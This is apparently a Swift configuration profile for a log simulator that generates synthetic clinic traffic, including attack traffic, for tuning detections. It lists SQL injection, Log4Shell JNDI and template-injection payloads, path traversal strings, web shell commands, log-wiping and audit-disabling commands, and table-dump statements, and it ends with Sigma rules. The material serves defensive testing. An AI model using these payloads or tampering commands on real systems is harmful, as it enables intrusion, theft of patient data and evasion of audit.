extension Profile {
    /// A company on Spring, with REST paths: what detections are made on.
    static let tuning = Profile(
        name: "tuning", start: midnight(2026, 7, 20), days: 120, holiday: 73...79, domain: "www.kangjian.example", businessHours: 8...19,
        files: [
            .portal: "portal-access.log", .api: "api-access.log", .application: "clinic.jsonl", .postgresql: "postgresql.csv",
            .mariadbGeneral: "mariadb-general.log", .mariadbSlow: "mariadb-slow.log", .cache: "redis-audit.jsonl", .hostAuthentication: "auth.log",
            .databaseHost: "secure", .audit: "audit.log", .bastion: "bastion-auth.log",
        ],
        publicPages: ["/", "/index.html", "/hospitals", "/departments", "/about", "/article/list?page={n}", "/news/{n}.html", "/schedule?week={n}"],
        numberedPages: ["/doctor/{n}", "/article/{n}.html"],
        oldLinks: ["/old/news/{n}.asp", "/wp-content/uploads/2018/{n}.jpg", "/topic/{n}/print", "/index.php?id={n}"],
        search: "/search?q={q}&page=1", portalLogin: Login(path: "/account/login", failure: 401, success: 302),
        portalRecords: ["/my/records/{id}", "/my/reports/{id}/view", "/my/prescriptions/{id}"],
        assets: ["/static/js/app.3f9a1c.js", "/static/css/main.8d2e.css", "/static/img/logo.png", "/favicon.ico"], health: "/actuator/health",
        apiPages: [
            "/api/v1/schedule?doctor={n}", "/api/v1/doctors?page={n}&size=20", "/api/v1/messages/unread", "/api/v1/config?v=5.8.1&_={ms}",
            "/api/v1/banners",
        ],
        apiRecords: ["/api/v1/patients/{id}", "/api/v1/patients/{id}/visits", "/api/v1/lab-reports/{id}", "/api/v1/prescriptions/{id}"],
        apiLogin: Login(path: "/api/v1/auth/token", failure: 401, success: 200),
        apiAgents: ["KangJian/5.8.1 (iOS 17.5; Scale/3.00)", "KangJian/5.8.0 (iOS 16.7; Scale/2.00)", "okhttp/4.12.0", "okhttp/4.9.3"],
        partnerPoll: "/api/v1/partner/orders?since={s}", partnerRecord: "/api/v1/partner/orders/{id}",
        partners: ["pharmacy01", "insurer-ping", "lab-union", "logistics"],
        applicationPages: [
            "/api/v1/dashboard", "/api/v1/todo?status=open", "/api/v1/dict/departments", "/api/v1/schedules?date={n}", "/api/v1/consultations/queue",
        ],
        applicationList: "/api/v1/patients?page={n}&size=20",
        applicationRecords: ["/api/v1/patients/{id}", "/api/v1/patients/{id}/emr", "/api/v1/consultations/{id}", "/api/v1/prescriptions/{id}"],
        applicationExport: "/api/v1/patients/export?format=xlsx&batch={n}",
        applicationLogin: Login(path: "/api/v1/login", failure: 401, success: 200),
        applicationFields: ApplicationFields(
            time: "time", address: "remote_ip", account: "user", method: "method", path: "path", status: "status", bytes: "bytes", rows: "rows",
            duration: "duration_ms", agent: "user_agent"),
        records: 100_000...899_999, accountName: { Names.dotted($0) },
        proxies: ["10.20.0.5", "10.20.0.6"], trustedProxies: "10.20.0.0/28", applicationServers: ["10.20.1.11", "10.20.1.12", "10.20.1.13"],
        bastion: "10.20.9.5", backupHost: "10.20.3.9", monitorHost: "10.20.0.9", internalNetworks: ["10.0.0.0/8"], seesDesks: true,
        reportHost: "10.20.4.4", office: "10.40", applicationHostName: "app01",
        databaseHostName: "db01",
        bastionName: "bastion", authenticationIsRFC5424: false,
        postgresqlZone: " CST", database: "clinic", applicationRoles: ["app_core", "app_order", "app_report"], backupRole: "backup",
        reportRole: "bi_reader",
        administrators: ["dba_zhou", "dba_lin", "dev_qian", "dev_sun", "ops_he", "dba_gao"],
        sensitiveTables: ["patient", "medical_record", "prescription", "lab_report"],
        plainTables: ["department", "drug_dictionary", "holiday", "doctor_title"],
        statements: [
            "SELECT id, name, sex, birth_date FROM patient WHERE id = {id}",
            "SELECT * FROM medical_record WHERE patient_id = {id} ORDER BY visit_at DESC LIMIT 20",
            "SELECT status FROM orders WHERE id = {id}", "UPDATE orders SET status = 'paid', paid_at = now() WHERE id = {id}",
            "INSERT INTO visit_log (patient_id, doctor_id) VALUES ({id}, {n})",
            "SELECT count(*) FROM consultation WHERE doctor_id = {n} AND state = 'open'", "BEGIN", "COMMIT",
            "SELECT * FROM department",
        ],
        reports: [
            "SELECT department_id, count(*), avg(fee) FROM orders WHERE created_at >= current_date - 1 GROUP BY department_id",
            "SELECT date_trunc('hour', visit_at), count(*) FROM medical_record WHERE visit_at > now() - interval '1 day' GROUP BY 1",
        ],
        mariadbDatabase: "shop", mariadbRole: "shop_app",
        mariadbTables: ["member", "cart", "goods"],
        mariadbPage: "SELECT id, real_name, phone, address FROM member WHERE id > {from} ORDER BY id LIMIT 100000",
        mariadbLookup: "SELECT `real_name`,`phone` FROM `member` WHERE `id` = {id}",
        maintenance: [
            "SELECT count(*) FROM patient", "EXPLAIN SELECT * FROM orders WHERE state = 'open'", "SELECT pid, state, query FROM pg_stat_activity",
            "SELECT * FROM department", "ALTER SYSTEM SET work_mem = '64MB'", "SELECT id, status FROM orders WHERE id = {id}", "SHOW log_statement",
        ],
        hostCommands: [
            "/usr/bin/systemctl restart nginx", "/usr/bin/tail -n 200 /var/log/nginx/error.log", "/usr/bin/less /var/log/auth.log",
            "/usr/sbin/nginx -t",
            "/usr/bin/journalctl -u clinic --since today", "/usr/bin/rm -rf /opt/clinic/tmp/render.log", "/usr/bin/apt-get update",
            "/usr/bin/grep -c 500 /var/log/nginx/access.log",
        ],
        mariadbStatements: [
            "SELECT * FROM `member` WHERE `id` = {id}", "SELECT `id`,`title`,`price` FROM `goods` WHERE `category_id` = {n} LIMIT 20",
            "UPDATE `cart` SET `quantity` = 2 WHERE `member_id` = {id}", "SELECT COUNT(*) FROM `goods` WHERE `on_sale` = 1", "SET NAMES utf8mb4",
        ],
        cacheKeys: ["session:{id}", "patient:summary:{id}", "queue:doctor:{n}", "lock:order:{id}"], cacheSweep: "SCAN {n} MATCH session:* COUNT 100",
        injectable: ["/search?q=", "/doctor/list?dept=", "/article/list?page=", "/api/v1/schedule?doctor="],
        injections: [
            "1' OR '1'='1", "1' UNION SELECT NULL,NULL,username,password FROM users-- -",
            "-1 UNION ALL SELECT table_name,2,3 FROM information_schema.tables#",
            "1' AND SLEEP(5)-- ", "1 AND (SELECT 5230 FROM (SELECT(SLEEP(3)))x)", "1'; DROP TABLE orders;--",
            "1' AND extractvalue(1,concat(0x7e,version()))-- ",
            "1) AND 7164=7164 AND (4432=4432", "1/**/UNION/**/SELECT/**/1,2,concat(user(),0x3a,database())", "${jndi:ldap://198.51.100.7:1389/a}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}{{''.__class__.__mro__}}", "1;waitfor delay '0:0:5'--", "1' ORDER BY 12-- -",
        ],
        traversals: [
            "/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/../../../../etc/shadow",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/download?file=....//....//....//etc/hosts", "/..;/..;/WEB-INF/web.xml",
            "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/download?file=/proc/self/environ",
            "/static/..%5c..%5c..%5cwindows%5cwin.ini",
        ],
        shells: ["/upload/2026/avatar_{n}.jsp", "/static/img/cache{n}.jsp", "/upload/x{n}.jspx", "/files/tmp/shell{n}.jsp"], uploads: "/file/upload",
        shellCommands: ["?cmd=whoami", "?cmd=cat+/etc/passwd", "?pwd=023&i=id", "?cmd=uname+-a", "?cmd=ls+-la+/opt", "?cmd=ifconfig"],
        scanned: [
            "/.env", "/.git/config", "/admin", "/backup.zip", "/web.sql", "/phpinfo.php", "/wp-login.php", "/config.json", "/server-status",
            "/actuator/env", "/test.jsp",
            "/.svn/entries", "/console", "/cgi-bin/test.cgi", "/db.sql.gz", "/id_rsa", "/login.action", "/struts2/index.action", "/solr/",
            "/jmx-console/",
        ],
        toolAgents: [
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "sqlmap/1.8.4#stable (https://sqlmap.org)", "python-requests/2.31.0",
            "dirsearch/0.4.3",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        ],
        administrationPages: [
            "/actuator/env", "/actuator/heapdump", "/druid/index.html", "/druid/websession.html", "/nacos/v1/auth/users?pageNo=1&pageSize=9",
            "/swagger-ui/index.html", "/admin/users",
        ],
        leaks: [
            "/api/v1/insurance/check?idCard={idcard}&mobile={mobile}", "/api/v1/realname?name=%E5%BC%A0%E4%B8%89&id_no={idcard}",
            "/api/v1/sms/send?phone={mobile}&scene=login", "/api/v1/h5/enter?access_token={token}",
        ],
        tampering: [
            "rm -f /var/log/nginx/access.log", "truncate -s 0 /var/log/auth.log", "shred -u /var/log/audit/audit.log.1", "systemctl stop auditd",
            "systemctl disable --now rsyslog",
            "auditctl -e 0", "journalctl --vacuum-time=1s", "sed -i /203.0.113/d /var/log/nginx/access.log", "cp /dev/null /var/log/wtmp",
        ],
        postgresqlTampering: [
            "ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM SET log_connections = off", "ALTER SYSTEM SET logging_collector TO off",
        ],
        mariadbTampering: ["SET GLOBAL general_log = 'OFF'", "SET GLOBAL general_log=0", "TRUNCATE TABLE mysql.general_log"],
        selectAll: ["SELECT * FROM {table}"],
        copies: [
            "COPY {table} TO '/tmp/.cache/{table}.csv' CSV", "COPY (SELECT * FROM {table}) TO PROGRAM 'gzip > /tmp/{table}.gz'",
            "copy {table} to stdout with csv header",
        ],
        cacheOpeners: ["KEYS *", "KEYS patient:*"], cacheEach: ["DUMP patient:summary:{id}"],
        databaseTools: ["Navicat", "DBeaver 23.2", "psql", "pgAdmin 4 - DB:clinic"],
        lookups: ["SELECT * FROM {table} WHERE id = {id}"],
        readers: 150...900, bulk: 2_000...12_000, walk: 300...8_000, guesses: 80...2_500, stuffed: 150...1_500, sprayed: 30...90, sprayPace: 15...240,
        nightly: 150...900, probes: 8...400, scans: 200...3_000, pace: 0.1...25,
        rules: [
            SystemRule(
                file: "web_symfony_fragment.yml",
                text: """
                    title: Symfony Fragment Route Called From Outside
                    id: 5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f001
                    status: test
                    description: The fragment route runs whatever its signed path names.
                    author: Suwen simulator
                    logsource:
                        category: webserver
                    detection:
                        selection:
                            cs-uri-query|contains: '/_fragment?_path='
                        condition: selection
                    level: high

                    """, id: "5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f001"),
            SystemRule(
                file: "lnx_auditd_socat.yml",
                text: """
                    title: Socat Relays a Shell
                    id: 5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f002
                    status: test
                    description: socat was started with a command to run.
                    author: Suwen simulator
                    logsource:
                        product: linux
                        service: auditd
                    detection:
                        selection:
                            type: EXECVE
                            a0|endswith: socat
                            a1|startswith: 'exec:'
                        condition: selection
                    level: high

                    """, id: "5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f002"),
        ], sigmaRequest: "/_fragment?_path=_controller%3Dsystem%26n%3D{n}")
}
